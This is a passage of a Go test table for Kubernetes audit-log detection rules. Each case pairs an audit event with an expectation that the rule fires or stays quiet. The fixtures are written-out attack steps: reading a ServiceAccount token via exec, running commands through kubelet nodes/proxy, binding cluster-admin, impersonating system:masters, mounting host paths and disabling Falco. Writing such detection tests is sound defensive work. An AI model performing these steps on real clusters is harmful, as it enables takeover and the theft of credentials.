		{rule: "AG-DET-423", name: "ClusterRole with */*/* then bound (RBAC Buster)", fire: true, msg: "ClusterRole kube-controller, written with every verb", n: 2, each: steps(
			ev("create", "clusterroles.rbac.authorization.k8s.io").name("").user("mallory").req(crAllWild).code(201),
			ev("create", "clusterrolebindings.rbac.authorization.k8s.io").name("").user("system:serviceaccount:kube-system:kube-controller").req(crbKubeController).at(time.Minute).code(201))},
		{rule: "AG-DET-423", name: "Role with */*/* then a RoleBinding to it", fire: true, n: 2, each: steps(
			ev("create", "roles.rbac.authorization.k8s.io").ns("dev").name("").user("mallory").req(roleAllWild).code(201),
			ev("create", "rolebindings.rbac.authorization.k8s.io").ns("dev").name("").user("mallory").req(rbAllWild).code(201))},
		{rule: "AG-DET-423", name: "near miss: a role with a wildcard verb on one resource", fire: false, n: 2, each: steps(
			ev("create", "clusterroles.rbac.authorization.k8s.io").name("").user("mallory").req(strings.Replace(crAllWild, `"resources":["*"]`, `"resources":["pods"]`, 1)).code(201),
			ev("create", "clusterrolebindings.rbac.authorization.k8s.io").name("").user("mallory").req(crbKubeController).code(201))},
		{rule: "AG-DET-423", name: "near miss: the binding names another role", fire: false, n: 2, each: steps(
			ev("create", "clusterroles.rbac.authorization.k8s.io").name("").user("mallory").req(crAllWild).code(201),
			ev("create", "clusterrolebindings.rbac.authorization.k8s.io").name("").user("mallory").req(strings.Replace(crbKubeController, `"kind":"ClusterRole","name":"kube-controller"`, `"kind":"ClusterRole","name":"view"`, 1)).code(201))},
		{rule: "AG-DET-423", name: "near miss: a Role of the same name in another namespace", fire: false, n: 2, each: steps(
			ev("create", "roles.rbac.authorization.k8s.io").ns("prod").name("").user("mallory").req(strings.Replace(roleAllWild, `"namespace":"dev"`, `"namespace":"prod"`, 1)).code(201),
			ev("create", "rolebindings.rbac.authorization.k8s.io").ns("dev").name("").user("mallory").req(rbAllWild).code(201))},
		{rule: "AG-DET-111", name: "a pod's token replayed with curl (whoami)", fire: true, msg: "curl/8.5.0", e: ev("create", "selfsubjectreviews.authentication.k8s.io").user("system:serviceaccount:media:thumbnailer").ua("curl/8.5.0").code(201)},
		{rule: "AG-DET-111", name: "a stolen token from python-requests", fire: true, e: ev("get", "nodes").name("cp-1").user("system:serviceaccount:media:media-ops").ua("python-requests/2.31.0")},
		{rule: "AG-DET-111", name: "near miss: client-go", fire: false, e: ev("get", "nodes").user("system:serviceaccount:media:media-ops").ua("kubectl/v1.36.3 (linux/amd64) kubernetes/abc")},
		{rule: "AG-DET-111", name: "near miss: Go's default client (Vault's TokenReview)", fire: false, e: ev("create", "tokenreviews.authentication.k8s.io").user("system:serviceaccount:vault:vault").ua("Go-http-client/2.0")},
		{rule: "AG-DET-111", name: "near miss: a person with curl", fire: false, e: ev("get", "nodes").user("alice").ua("curl/8.5.0")},
		{rule: "AG-DET-424", name: "a Secret read as a workload's ServiceAccount", fire: true, msg: "as system:serviceaccount:payments:api", e: ev("get", "secrets").ns("payments").name("db").user("kubernetes-admin").imp("system:serviceaccount:payments:api")},
		{rule: "AG-DET-424", name: "exec as another user", fire: true, e: ev("get", "pods/exec").ns("payments").name("api-1").user("alice").imp("bob")},
		{rule: "AG-DET-424", name: "near miss: impersonated list of pods (an RBAC check)", fire: false, e: ev("list", "pods").ns("payments").user("alice").imp("bob")},
		{rule: "AG-DET-424", name: "near miss: refused", fire: false, e: ev("get", "secrets").ns("payments").name("db").user("alice").imp("bob").forbid().code(403)},
		{rule: "AG-DET-613", name: "Service with externalIPs", fire: true, msg: "203.0.113.50", e: ev("create", "services").ns("payments").name("").req(`{"kind":"Service","apiVersion":"v1","metadata":{"name":"metrics","namespace":"payments"},"spec":{"ports":[{"port":443}],"externalIPs":["203.0.113.50"]}}`).code(201)},
		{rule: "AG-DET-613", name: "externalIPs patched in", fire: true, e: ev("patch", "services").ns("payments").name("metrics").req(`{"spec":{"externalIPs":["169.254.169.254"]}}`)},
		{rule: "AG-DET-613", name: "near miss: a ClusterIP Service", fire: false, e: ev("create", "services").ns("payments").name("").req(`{"kind":"Service","apiVersion":"v1","metadata":{"name":"metrics","namespace":"payments"},"spec":{"ports":[{"port":443}]}}`).code(201)},
		{rule: "AG-DET-509", name: "runtime sensor pinned to a label no node has", fire: true, e: ev("patch", "daemonsets.apps").ns("falco").name("falco").req(`{"spec":{"template":{"spec":{"nodeSelector":{"falco-maintenance":"true"}}}}}`)},
		{rule: "AG-DET-509", name: "near miss: an image rollout", fire: false, e: ev("patch", "daemonsets.apps").ns("falco").name("falco").req(`{"spec":{"template":{"spec":{"containers":[{"name":"falco","image":"falco:0.39"}]}}}}`)},
		{rule: "AG-DET-509", name: "near miss: server-side apply of the whole object", fire: false, e: ev("patch", "daemonsets.apps").ns("falco").name("falco").req(`{"kind":"DaemonSet","apiVersion":"apps/v1","metadata":{"name":"falco"},"spec":{"template":{"spec":{"nodeSelector":{"kubernetes.io/os":"linux"}}}}}`)},
		{rule: "AG-DET-425", name: "hostPath PersistentVolume of /", fire: true, msg: "on host path /", e: ev("create", "persistentvolumes").name("").req(`{"kind":"PersistentVolume","apiVersion":"v1","metadata":{"name":"scratch"},"spec":{"capacity":{"storage":"1Gi"},"accessModes":["ReadWriteOnce"],"hostPath":{"path":"/"}}}`).code(201)},
		{rule: "AG-DET-425", name: "local volume under /var/lib/kubelet", fire: true, e: ev("create", "persistentvolumes").name("").req(`{"kind":"PersistentVolume","apiVersion":"v1","metadata":{"name":"l"},"spec":{"local":{"path":"/var/lib/kubelet/pods"}}}`).code(201)},
		{rule: "AG-DET-425", name: "near miss: a hostPath PV under /mnt/data", fire: false, e: ev("create", "persistentvolumes").name("").req(`{"kind":"PersistentVolume","apiVersion":"v1","metadata":{"name":"d"},"spec":{"hostPath":{"path":"/mnt/data/pv1"}}}`).code(201)},
		{rule: "AG-DET-425", name: "near miss: an NFS volume", fire: false, e: ev("create", "persistentvolumes").name("").req(`{"kind":"PersistentVolume","apiVersion":"v1","metadata":{"name":"n"},"spec":{"nfs":{"server":"10.0.0.5","path":"/"}}}`).code(201)},
		{rule: "AG-DET-614", name: "a node refused a Secret", fire: true, msg: "refused get secrets payments/db", e: ev("get", "secrets").ns("payments").name("db").user("system:node:lab-worker-666", "system:nodes", "system:authenticated").forbid().code(403)},
		{rule: "AG-DET-614", name: "near miss: a node reads a Secret it may", fire: false, e: ev("get", "secrets").ns("payments").name("db").user("system:node:worker-1", "system:nodes", "system:authenticated")},
		{rule: "AG-DET-614", name: "near miss: a person refused", fire: false, e: ev("get", "secrets").ns("payments").name("db").user("alice").forbid().code(403)},
		{rule: "AG-DET-307", name: "CSR approved by a person", fire: true, e: ev("update", "certificatesigningrequests.certificates.k8s.io/approval").name("c")},
		{rule: "AG-DET-307", name: "near miss: a kubelet serving certificate approved by an administrator", fire: false, e: ev("update", "certificatesigningrequests.certificates.k8s.io/approval").name("csr-x").req(`{"kind":"CertificateSigningRequest","apiVersion":"certificates.k8s.io/v1","metadata":{"name":"csr-x"},"spec":{"signerName":"kubernetes.io/kubelet-serving","usages":["server auth"]},"status":{"conditions":[{"type":"Approved","status":"True"}]}}`)},
		{rule: "AG-DET-307", name: "a client certificate approved by an administrator", fire: true, e: ev("update", "certificatesigningrequests.certificates.k8s.io/approval").name("csr-y").req(`{"kind":"CertificateSigningRequest","apiVersion":"certificates.k8s.io/v1","metadata":{"name":"csr-y"},"spec":{"signerName":"kubernetes.io/kube-apiserver-client","usages":["client auth"]},"status":{"conditions":[{"type":"Approved","status":"True"}]}}`)},
		{rule: "AG-DET-307", name: "near miss: approved by the controller", fire: false, e: ev("update", "certificatesigningrequests.certificates.k8s.io/approval").name("c").user("system:serviceaccount:kube-system:certificate-controller")},
		{rule: "AG-DET-308", name: "mutating webhook created", fire: true, e: ev("create", "mutatingwebhookconfigurations.admissionregistration.k8s.io").name("inject")},
		{rule: "AG-DET-308", name: "near miss: validating webhook deleted (AG-DET-508)", fire: false, e: ev("delete", "validatingwebhookconfigurations.admissionregistration.k8s.io").name("policy")},
		{rule: "AG-DET-508", name: "validating webhook deleted", fire: true, e: ev("delete", "validatingwebhookconfigurations.admissionregistration.k8s.io").name("policy")},
		{rule: "AG-DET-508", name: "near miss: created", fire: false, e: ev("create", "validatingwebhookconfigurations.admissionregistration.k8s.io").name("policy")},
		{rule: "AG-DET-308", name: "near miss: webhook read", fire: false, e: ev("get", "validatingwebhookconfigurations.admissionregistration.k8s.io").name("policy")},
		{rule: "AG-DET-309", name: "APIService created", fire: true, e: ev("create", "apiservices.apiregistration.k8s.io").name("v1beta1.metrics.k8s.io")},
		{rule: "AG-DET-309", name: "near miss: apiserver's autoregistration", fire: false, e: ev("update", "apiservices.apiregistration.k8s.io").name("v1.apps").user("system:apiserver", "system:masters")},
		{rule: "AG-DET-310", name: "DaemonSet by a person", fire: true, e: ev("create", "daemonsets.apps").ns("default").name("ds")},
		{rule: "AG-DET-310", name: "near miss: status update by the controller", fire: false, e: ev("update", "daemonsets.apps/status").ns("default").name("ds").user("system:serviceaccount:kube-system:daemon-set-controller")},
		{rule: "AG-DET-311", name: "CronJob created", fire: true, e: ev("create", "cronjobs.batch").ns("default").name("cj")},
		{rule: "AG-DET-311", name: "near miss: CronJob status by the controller", fire: false, e: ev("update", "cronjobs.batch/status").ns("default").name("cj").user("system:serviceaccount:kube-system:cronjob-controller")},
		{rule: "AG-DET-312", name: "kube-proxy config changed", fire: true, e: ev("patch", "configmaps").ns("kube-system").name("kube-proxy")},
		{rule: "AG-DET-312", name: "near miss: root CA publisher", fire: false, e: ev("update", "configmaps").ns("kube-system").name("kube-root-ca.crt").user("system:serviceaccount:kube-system:root-ca-cert-publisher")},
		{rule: "AG-DET-312", name: "near miss: coredns has its own rule", fire: false, e: ev("update", "configmaps").ns("kube-system").name("coredns")},
		{rule: "AG-DET-313", name: "aws-auth changed", fire: true, e: ev("update", "configmaps").ns("kube-system").name("aws-auth")},
		{rule: "AG-DET-313", name: "near miss: aws-auth read", fire: false, e: ev("get", "configmaps").ns("kube-system").name("aws-auth")},

		// Privilege escalation
		{rule: "AG-DET-401", name: "cluster-admin ClusterRoleBinding", fire: true, msg: "User mallory", e: ev("create", "clusterrolebindings.rbac.authorization.k8s.io").req(crbClusterAdmin)},
		{rule: "AG-DET-401", name: "RoleBinding to cluster-admin via patch (response)", fire: true, e: ev("patch", "rolebindings.rbac.authorization.k8s.io").ns("dev").name("x").req(`{"roleRef":null}`).resp(strings.Replace(crbClusterAdmin, "ClusterRoleBinding", "RoleBinding", 1))},
		{rule: "AG-DET-401", name: "near miss: Role named cluster-admin", fire: false, e: ev("create", "rolebindings.rbac.authorization.k8s.io").ns("dev").req(rbRoleNamedCA)},
		{rule: "AG-DET-402", name: "binding to system:authenticated", fire: true, e: ev("create", "rolebindings.rbac.authorization.k8s.io").ns("dev").req(rbAuthenticated)},
		{rule: "AG-DET-402", name: "near miss: ServiceAccount oddly named system:anonymous", fire: false, e: ev("create", "rolebindings.rbac.authorization.k8s.io").ns("dev").req(rbGroupDev)},
		{rule: "AG-DET-402", name: "near miss: API server bootstrap binding", fire: false, e: ev("create", "rolebindings.rbac.authorization.k8s.io").ns("dev").user("system:apiserver", "system:masters").req(rbAuthenticated)},
		{rule: "AG-DET-403", name: "Role with verb wildcard", fire: true, e: ev("create", "roles.rbac.authorization.k8s.io").ns("dev").req(roleWildVerb)},
		{rule: "AG-DET-403", name: "near miss: plain role", fire: false, e: ev("create", "clusterroles.rbac.authorization.k8s.io").req(roleReadPods)},
		{rule: "AG-DET-403", name: "near miss: aggregation controller", fire: false, e: ev("update", "clusterroles.rbac.authorization.k8s.io").name("admin").user("system:serviceaccount:kube-system:clusterrole-aggregation-controller").req(roleWildVerb)},
		{rule: "AG-DET-404", name: "escalate verb", fire: true, e: ev("create", "clusterroles.rbac.authorization.k8s.io").req(roleEscalate)},
		{rule: "AG-DET-404", name: "near miss: plain role", fire: false, e: ev("create", "clusterroles.rbac.authorization.k8s.io").req(roleReadPods)},
		{rule: "AG-DET-405", name: "role granting secrets and pods/exec", fire: true, msg: "secrets, pods/exec", e: ev("create", "roles.rbac.authorization.k8s.io").ns("dev").req(roleSecrets)},
		{rule: "AG-DET-405", name: "near miss: pods and pods/log", fire: false, e: ev("create", "clusterroles.rbac.authorization.k8s.io").req(roleReadPods)},
		{rule: "AG-DET-406", name: "SA writes a RoleBinding", fire: true, e: ev("create", "rolebindings.rbac.authorization.k8s.io").ns("default").user(sa).req(rbGroupDev)},
		{rule: "AG-DET-406", name: "near miss: SA reads RBAC", fire: false, e: ev("list", "rolebindings.rbac.authorization.k8s.io").ns("default").user(sa)},
		{rule: "AG-DET-407", name: "system:node ClusterRole patched", fire: true, e: ev("patch", "clusterroles.rbac.authorization.k8s.io").name("system:node")},
		{rule: "AG-DET-407", name: "near miss: reconciled by the API server", fire: false, e: ev("update", "clusterroles.rbac.authorization.k8s.io").name("system:node").user("system:apiserver", "system:masters")},
		{rule: "AG-DET-408", name: "impersonating group system:masters", fire: true, msg: "system:masters", e: ev("list", "secrets").imp("whoever", "system:masters")},
		{rule: "AG-DET-408", name: "impersonating a node, denied by the authorizer afterwards", fire: true, e: ev("get", "nodes").imp("system:node:n1").forbid()},
		{rule: "AG-DET-408", name: "near miss: impersonating an ordinary user", fire: false, e: ev("list", "pods").imp("bob", "dev")},
		{rule: "AG-DET-408", name: "near miss: impersonation refused", fire: false, e: ev("list", "pods").imp("system:admin").noDecision().code(403)},
		// AG-DET-416: the messages kube-apiserver v1.36.3 wrote in the e2e (constrained
		// impersonation on), and the classic one
		{rule: "AG-DET-416", name: "constrained impersonation refused", fire: true, msg: "eve was refused impersonation: pods is forbidden", e: ev("list", "pods").ns("kube-system").user("eve").
			refused(`pods is forbidden: User "eve" cannot impersonate-on:user-info:list resource "pods" in API group "" in the namespace "kube-system"`)},
		{rule: "AG-DET-416", name: "impersonation of a ServiceAccount refused", fire: true, e: ev("list", "secrets").ns("kube-system").user("eve").
			refused(`secrets is forbidden: User "eve" cannot impersonate-on:serviceaccount:list resource "secrets" in API group "" in the namespace "kube-system"`)},
		{rule: "AG-DET-416", name: "classic impersonate refused", fire: true, e: ev("list", "pods").user(sa).
			refused(`users "system:admin" is forbidden: User "system:serviceaccount:default:app" cannot impersonate resource "users" in API group "" at the cluster scope`)},
		{rule: "AG-DET-416", name: "near miss: an ordinary 403 from the authorizer", fire: false, e: ev("list", "secrets").user("eve").forbid().
			refused(`secrets is forbidden: User "eve" cannot list resource "secrets" in API group "" in the namespace "default"`)},
		{rule: "AG-DET-416", name: "near miss: a Secret named impersonate", fire: false, e: ev("get", "secrets").name("impersonate").user("eve").code(404)},
		{rule: "AG-DET-409", name: "privileged pod rejected by Pod Security", fire: true, msg: "failed: 403", e: ev("create", "pods").ns("default").req(podPrivileged).code(403)},
		{rule: "AG-DET-409", name: "privileged init container in a Deployment template", fire: true, msg: "init", e: ev("create", "deployments.apps").ns("default").req(deployInitPriv)},
		{rule: "AG-DET-409", name: "near miss: privileged false", fire: false, e: ev("create", "pods").ns("default").req(podPlain)},
		{rule: "AG-DET-409", name: "near miss: pod copied from a template by the controller", fire: false, e: ev("create", "pods").ns("default").user(ctrl).req(podPrivileged)},
		{rule: "AG-DET-410", name: "hostPID in a CronJob template", fire: true, msg: "hostPID", e: ev("create", "cronjobs.batch").ns("default").req(cronJobHostPID)},
		{rule: "AG-DET-410", name: "near miss: host namespaces false", fire: false, e: ev("create", "daemonsets.apps").ns("default").req(dsHostNet)},
		{rule: "AG-DET-411", name: "unclean path to /etc/kubernetes/pki", fire: true, msg: "/etc/kubernetes/pki", e: ev("create", "pods").ns("default").req(podHostPathEtc)},
		{rule: "AG-DET-411", name: "near miss: /mnt/data", fire: false, e: ev("create", "statefulsets.apps").ns("default").req(stsHostPathData)},
		{rule: "AG-DET-412", name: "hostPath /mnt/data in a StatefulSet", fire: true, e: ev("create", "statefulsets.apps").ns("default").req(stsHostPathData)},
		{rule: "AG-DET-412", name: "near miss: sensitive path is the other rule", fire: false, e: ev("create", "pods").ns("default").req(podHostPathEtc)},
		{rule: "AG-DET-413", name: "cap_sys_admin lower case", fire: true, e: ev("create", "pods").ns("default").req(podCapSysAdmin)},
		{rule: "AG-DET-413", name: "near miss: NET_BIND_SERVICE, SYS_ADMIN dropped", fire: false, e: ev("create", "pods").ns("default").req(podCapNetBind)},
		{rule: "AG-DET-403", name: "JSON patch adding a wildcard rule, refused by RBAC's escalation check", fire: true, e: ev("patch", "clusterroles.rbac.authorization.k8s.io").name("ci").code(403).req(`[{"op":"add","path":"/rules/-","value":{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}}]`)},
		{rule: "AG-DET-404", name: "JSON patch replacing a rule's verbs with escalate", fire: true, e: ev("patch", "clusterroles.rbac.authorization.k8s.io").name("ci").req(`[{"op":"replace","path":"/rules/0/verbs","value":["get","escalate"]}]`)},
		{rule: "AG-DET-404", name: "near miss: JSON patch removing a rule", fire: false, e: ev("patch", "clusterroles.rbac.authorization.k8s.io").name("ci").req(`[{"op":"remove","path":"/rules/0"}]`)},
		{rule: "AG-DET-419", name: "bare pod running as release-manager", fire: true, msg: "running as ServiceAccount release-manager", e: ev("create", "pods").ns("shop").name("debug").req(`{"kind":"Pod","apiVersion":"v1","metadata":{"name":"debug"},"spec":{"serviceAccountName":"release-manager","containers":[{"name":"c","image":"alpine"}]}}`)},
		{rule: "AG-DET-419", name: "near miss: kubectl run with the default account", fire: false, e: ev("create", "pods").ns("shop").name("debug").req(podPlain)},
		{rule: "AG-DET-419", name: "near miss: the ReplicaSet controller's pod", fire: false, e: ev("create", "pods").ns("shop").user(ctrl).req(`{"kind":"Pod","apiVersion":"v1","metadata":{"name":"web-x","ownerReferences":[{"kind":"ReplicaSet","name":"web"}]},"spec":{"serviceAccountName":"web","containers":[{"name":"c","image":"nginx"}]}}`)},
		{rule: "AG-DET-419", name: "near miss: CI ServiceAccount runs a test pod", fire: false, e: ev("create", "pods").ns("shop").user(sa).req(`{"kind":"Pod","apiVersion":"v1","metadata":{"name":"t"},"spec":{"serviceAccountName":"tester","containers":[{"name":"c","image":"alpine"}]}}`)},
		{rule: "AG-DET-420", name: "strategic patch swaps the Deployment's account", fire: true, msg: "alice patched the ServiceAccount of deployments.apps shop/web", e: ev("patch", "deployments.apps").ns("shop").name("web").req(`{"spec":{"template":{"spec":{"serviceAccountName":"release-manager","containers":[{"name":"istio-proxy","image":"x"}]}}}}`)},
		{rule: "AG-DET-420", name: "JSON patch of the account", fire: true, e: ev("patch", "daemonsets.apps").ns("shop").name("agent").req(`[{"op":"replace","path":"/spec/template/spec/serviceAccountName","value":"admin"}]`)},
		{rule: "AG-DET-420", name: "near miss: image rollout patch", fire: false, e: ev("patch", "deployments.apps").ns("shop").name("web").req(`{"spec":{"template":{"spec":{"containers":[{"name":"web","image":"web:1.2"}]}}}}`)},
		{rule: "AG-DET-420", name: "near miss: server-side apply of the whole object", fire: false, e: ev("patch", "deployments.apps").ns("shop").name("web").req(`{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"web"},"spec":{"template":{"spec":{"serviceAccountName":"web","containers":[{"name":"web","image":"web:1.2"}]}}}}`)},
		{rule: "AG-DET-420", name: "near miss: the scale subresource", fire: false, e: ev("patch", "deployments.apps/scale").ns("shop").name("web").req(`{"spec":{"replicas":3}}`)},
		{rule: "AG-DET-421", name: "node lists every pod", fire: true, e: node(ev("list", "pods"))},
		{rule: "AG-DET-421", name: "node refused a list of kube-system pods", fire: true, e: node(ev("list", "pods").ns("kube-system")).forbid()},
		{rule: "AG-DET-421", name: "near miss: kubelet watches its own pods", fire: false, e: node(ev("watch", "pods").uri("/api/v1/pods?fieldSelector=spec.nodeName%3Dn1&watch=true"))},
		{rule: "AG-DET-421", name: "near miss: a person lists pods", fire: false, e: ev("list", "pods")},
		{rule: "AG-DET-414", name: "kubelet /run via nodes/proxy", fire: true, e: ev("create", "nodes/proxy").name("n1").uri("/api/v1/nodes/n1/proxy/run/default/web-0/web?cmd=id")},
		{rule: "AG-DET-414", name: "kubelet exec over a GET (WebSocket)", fire: true, e: ev("get", "nodes/proxy").name("n1").uri("/api/v1/nodes/n1/proxy/exec/default/web-0/web?command=sh&input=1")},
		{rule: "AG-DET-414", name: "near miss: Prometheus scrapes cAdvisor", fire: false, e: ev("get", "nodes/proxy").name("n1").uri("/api/v1/nodes/n1/proxy/metrics/cadvisor").user("system:serviceaccount:monitoring:prometheus")},
		{rule: "AG-DET-422", name: "control-plane taint removed", fire: true, e: ev("patch", "nodes").name("cp-1").req(`{"spec":{"taints":null}}`)},
		{rule: "AG-DET-422", name: "near miss: cordon", fire: false, e: ev("patch", "nodes").name("w-1").req(`{"spec":{"unschedulable":true}}`)},
		{rule: "AG-DET-422", name: "near miss: the node lifecycle controller", fire: false, e: ev("patch", "nodes").name("w-1").user("system:serviceaccount:kube-system:node-controller").req(`{"spec":{"taints":[{"key":"node.kubernetes.io/unreachable","effect":"NoExecute"}]}}`)},
		{rule: "AG-DET-414", name: "near miss: nodes/status", fire: false, e: ev("get", "nodes/status").name("n1")},
		{rule: "AG-DET-415", name: "pod with a controller SA in kube-system", fire: true, e: ev("create", "pods").ns("kube-system").req(podCtrlSA)},
		{rule: "AG-DET-415", name: "near miss: coredns SA", fire: false, e: ev("create", "pods").ns("kube-system").req(podCoreDNSSA)},

		// Defense evasion
		{rule: "AG-DET-507", name: "a person deletes a CSR", fire: true, e: ev("delete", "certificatesigningrequests.certificates.k8s.io").name("mallory-client")},
		{rule: "AG-DET-507", name: "near miss: csrcleaner", fire: false, e: ev("delete", "certificatesigningrequests.certificates.k8s.io").name("old").user("system:serviceaccount:kube-system:certificate-controller")},
		{rule: "AG-DET-501", name: "events deleted (events.k8s.io)", fire: true, e: ev("deletecollection", "events.events.k8s.io").ns("default")},
		{rule: "AG-DET-501", name: "near miss: namespace controller", fire: false, e: ev("deletecollection", "events").ns("gone").user("system:serviceaccount:kube-system:namespace-controller")},
		{rule: "AG-DET-502", name: "VAP deleted", fire: true, e: ev("delete", "validatingadmissionpolicies.admissionregistration.k8s.io").name("require-labels")},
		{rule: "AG-DET-502", name: "near miss: VAP created", fire: false, e: ev("create", "validatingadmissionpolicies.admissionregistration.k8s.io").name("require-labels")},
		{rule: "AG-DET-503", name: "namespace set to privileged", fire: true, e: ev("patch", "namespaces").name("dev").req(nsPrivileged)},
		{rule: "AG-DET-503", name: "near miss: baseline", fire: false, e: ev("patch", "namespaces").name("dev").req(nsBaseline)},
		{rule: "AG-DET-504", name: "truncated event", fire: true, e: ev("create", "configmaps").ns("default").ann("audit.k8s.io/truncated", "true")},
		{rule: "AG-DET-504", name: "near miss: not truncated", fire: false, e: ev("create", "configmaps").ns("default").ann("audit.k8s.io/truncated", "false")},
		{rule: "AG-DET-505", name: "falco DaemonSet deleted", fire: true, e: ev("delete", "daemonsets.apps").ns("falco").name("falco")},
		{rule: "AG-DET-505", name: "near miss: app deleted", fire: false, e: ev("delete", "daemonsets.apps").ns("web").name("nginx")},

		// Credential access
		{rule: "AG-DET-601", name: "watch secrets cluster-wide", fire: true, e: ev("watch", "secrets").uri("/api/v1/secrets?watch=true&labelSelector=a%3Db")},
		{rule: "AG-DET-601", name: "near miss: list in own namespace", fire: false, e: ev("list", "secrets").ns("dev")},
		{rule: "AG-DET-601", name: "near miss: garbage collector", fire: false, e: ev("list", "secrets").user("system:serviceaccount:kube-system:generic-garbage-collector")},
		{rule: "AG-DET-601", name: "near miss: an operator's ServiceAccount watches every Secret (AG-DET-611)", fire: false, e: ev("watch", "secrets").user("system:serviceaccount:cert-manager:cert-manager")},
		{rule: "AG-DET-611", name: "operator ServiceAccount watches every Secret", fire: true, e: ev("watch", "secrets").user("system:serviceaccount:cert-manager:cert-manager")},
		{rule: "AG-DET-611", name: "near miss: a person (AG-DET-601)", fire: false, e: ev("watch", "secrets")},
		{rule: "AG-DET-611", name: "near miss: the ServiceAccount in its own namespace", fire: false, e: ev("list", "secrets").ns("cert-manager").user("system:serviceaccount:cert-manager:cert-manager")},
		{rule: "AG-DET-612", name: "CI token mints the operator's token", fire: true, msg: "requested a token for ServiceAccount shop/operator", e: ev("create", "serviceaccounts/token").ns("shop").name("operator").user("system:serviceaccount:ci:deployer")},
		{rule: "AG-DET-612", name: "near miss: a ServiceAccount renews its own token", fire: false, e: ev("create", "serviceaccounts/token").ns("default").name("app").user(sa)},
		{rule: "AG-DET-612", name: "near miss: the kubelet mints a pod's token", fire: false, e: node(ev("create", "serviceaccounts/token").ns("shop").name("operator"))},
		{rule: "AG-DET-602", name: "near miss: Helm lists its release Secrets in the namespace it deploys to", fire: false, e: ev("list", "secrets").ns("prod").user(sa).uri("/api/v1/namespaces/prod/secrets?labelSelector=name%3Dcart%2Cowner%3Dhelm")},
		{rule: "AG-DET-602", name: "SA reads another namespace", fire: true, e: ev("get", "secrets").ns("prod").name("db").user(sa)},
		{rule: "AG-DET-602", name: "near miss: SA reads its own namespace", fire: false, e: ev("get", "secrets").ns("default").name("db").user(sa)},
		{rule: "AG-DET-603", name: "person reads a kube-system secret", fire: true, e: ev("get", "secrets").ns("kube-system").name("bootstrap-token-abcdef")},
		{rule: "AG-DET-610", name: "person lists every Secret of shop", fire: true, msg: "alice listed every Secret in shop", e: ev("list", "secrets").ns("shop")},
		{rule: "AG-DET-610", name: "near miss: Helm lists its release Secrets", fire: false, e: ev("list", "secrets").ns("shop").uri("/api/v1/namespaces/shop/secrets?labelSelector=owner%3Dhelm")},
		{rule: "AG-DET-610", name: "near miss: operator ServiceAccount lists Secrets", fire: false, e: ev("list", "secrets").ns("shop").user(sa)},
		{rule: "AG-DET-610", name: "near miss: a person reads one Secret", fire: false, e: ev("get", "secrets").ns("shop").name("db")},
		{rule: "AG-DET-610", name: "near miss: refused", fire: false, e: ev("list", "secrets").ns("shop").forbid()},
		{rule: "AG-DET-603", name: "near miss: kubelet reads a secret for its pod", fire: false, e: node(ev("get", "secrets").ns("kube-system").name("kube-proxy-token"))},
		{rule: "AG-DET-604", name: "curl reads a secret", fire: true, e: ev("get", "secrets").ns("default").name("db").ua("curl/8.5.0")},
		{rule: "AG-DET-604", name: "near miss: kubectl", fire: false, e: ev("get", "secrets").ns("default").name("db")},
		{rule: "AG-DET-605", name: "10 distinct secrets", fire: true, n: 10, each: func(i int) E { return ev("get", "secrets").ns("default").name(fmt.Sprintf("s%d", i)) }},
		{rule: "AG-DET-605", name: "near miss: the same secret 10 times", fire: false, n: 10, e: ev("get", "secrets").ns("default").name("s")},
		{rule: "AG-DET-606", name: "SA token read by exec", fire: true, e: ev("get", "pods/exec").ns("default").name("web-0").uri(execURI("cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"))},
		{rule: "AG-DET-606", name: "near miss: harmless exec", fire: false, e: ev("get", "pods/exec").ns("default").name("web-0").uri(execURI("date"))},
		{rule: "AG-DET-607", name: "legacy token", fire: true, e: ev("list", "pods").user(sa).ann("authentication.k8s.io/legacy-token", sa)},
		{rule: "AG-DET-607", name: "near miss: bound token", fire: false, e: ev("list", "pods").user(sa).extra("authentication.kubernetes.io/credential-id", "JTI=1")},
		{rule: "AG-DET-609", name: "AWS keys in a properties file", fire: true, msg: "with credentials in access.properties (values not shown)", e: ev("create", "configmaps").ns("default").name("app").req(cmAWSKeys)},
		{rule: "AG-DET-609", name: "passphrase assignment", fire: true, e: ev("update", "configmaps").ns("default").name("app").req(cmPassphrase)},
		{rule: "AG-DET-609", name: "key named like a credential, by merge patch", fire: true, msg: "DB_PASSWORD", e: ev("patch", "configmaps").ns("default").name("app").req(cmKeyPassword)},
		{rule: "AG-DET-609", name: "PEM private key", fire: true, msg: "tls.key", e: ev("create", "configmaps").ns("default").req(cmPrivateKey)},
		{rule: "AG-DET-609", name: "near miss: settings only", fire: false, e: ev("create", "configmaps").ns("default").req(cmPlain)},
		{rule: "AG-DET-609", name: "near miss: references and policy settings", fire: false, e: ev("create", "configmaps").ns("default").req(cmReferences)},
		{rule: "AG-DET-609", name: "near miss: logged at Metadata (no body)", fire: false, e: ev("create", "configmaps").ns("default").name("app")},
		{rule: "AG-DET-609", name: "near miss: read", fire: false, e: ev("get", "configmaps").ns("default").name("app").resp(cmAWSKeys)},
		{rule: "AG-DET-608", name: "stale token", fire: true, e: ev("list", "pods").user(sa).ann("authentication.k8s.io/stale-token", "subject: x, seconds after warning threshold: 10")},
		{rule: "AG-DET-608", name: "near miss: fresh token", fire: false, e: ev("list", "pods").user(sa)},

		// Discovery
		{rule: "AG-DET-701", name: "20 denials for one user", fire: true, n: 20, e: ev("list", "secrets").forbid()},
		{rule: "AG-DET-701", name: "near miss: 20 admission 403s", fire: false, n: 20, e: ev("create", "pods").ns("default").code(403)},
		{rule: "AG-DET-702", name: "30 denials from one address over many users", fire: true, n: 30, each: func(i int) E {
			return ev("list", "secrets").forbid().user(fmt.Sprintf("u%d", i)).ips("10.9.9.9")
		}},
		{rule: "AG-DET-702", name: "near miss: forged XFF spread over addresses, one peer... but 29", fire: false, n: 29, each: func(i int) E {
			return ev("list", "secrets").forbid().user(fmt.Sprintf("u%d", i)).ips(fmt.Sprintf("1.1.1.%d", i), "10.9.9.9")
		}},
		{rule: "AG-DET-703", name: "SA denied", fire: true, e: ev("list", "secrets").user(sa).forbid()},
		{rule: "AG-DET-703", name: "near miss: person denied", fire: false, e: ev("list", "secrets").forbid()},
		{rule: "AG-DET-704", name: "SA runs auth can-i --list", fire: true, e: ev("create", "selfsubjectrulesreviews.authorization.k8s.io").user(sa)},
		{rule: "AG-DET-704", name: "near miss: person runs can-i", fire: false, e: ev("create", "selfsubjectrulesreviews.authorization.k8s.io")},
